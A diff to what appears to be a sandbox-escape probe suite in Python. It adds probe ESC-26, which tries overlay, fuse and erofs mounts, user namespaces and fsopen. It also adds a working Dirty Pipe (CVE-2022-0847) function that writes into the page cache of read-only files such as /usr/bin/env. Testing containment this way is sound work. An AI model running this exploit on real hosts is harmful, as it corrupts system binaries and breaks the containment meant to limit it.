@@ -1,6 +1,7 @@
 """ESC: out through files, descriptors, mounts and procfs."""
 
 import ctypes
+import errno
 import glob
 import os
 import stat
@@ -221,3 +222,34 @@ def standard_streams():
                   (f"utime {what}", lambda fd=fd: os.utime(fd, (1, 1))),
                   (f"ftruncate {what}", lambda fd=fd: os.ftruncate(fd, 0))]
     return attempts(tries)
+
+
+def dirty_pipe(path: str) -> None:
+    """CVE-2022-0847: a page of a file that can only be read is written through a pipe."""
+    file = os.open(path, os.O_RDONLY)
+    before = os.pread(file, 16, 0)
+    reader, writer = os.pipe()
+    for _ in range(16):  # Every slot of the pipe has been used, and may be merged into.
+        os.write(writer, bytes(4096))
+    for _ in range(16):
+        os.read(reader, 4096)
+    os.splice(file, writer, 1, offset_src=0)
+    os.write(writer, b"dirty")
+    if os.pread(file, 16, 0) == before:
+        raise OSError(errno.EROFS, "unchanged")
+
+
+@probe("ESC-26")
+def file_systems_with_a_past():
+    os.makedirs("/tmp/place", exist_ok=True)
+    place, layers = b"/tmp/place", b"lowerdir=/usr/bin:/usr/lib"
+    return attempts([
+        ("overlay", lambda: mount(b"overlay", place, b"overlay", 0, layers)),
+        ("a user namespace", lambda: call("unshare", CLONE_NEWUSER | CLONE_NEWNS)),
+        ("fuse", lambda: mount(b"x", place, b"fuse", 0, b"fd=0,rootmode=40000,user_id=0,group_id=0")),
+        ("/dev/fuse", lambda: os.open("/dev/fuse", os.O_RDWR)),
+        ("erofs", lambda: mount(b"/payloads/kit.py", place, b"erofs", MS_RDONLY)),
+        *((f"fsopen {kind}", lambda k=kind: call("fsopen", k.encode(), 0)) for kind in ("overlay", "fuse", "ext4")),
+        ("the page cache of a program", lambda: dirty_pipe("/usr/bin/env")),
+        ("the page cache of a bind", lambda: dirty_pipe("/payloads/kit.py")),
+    ])
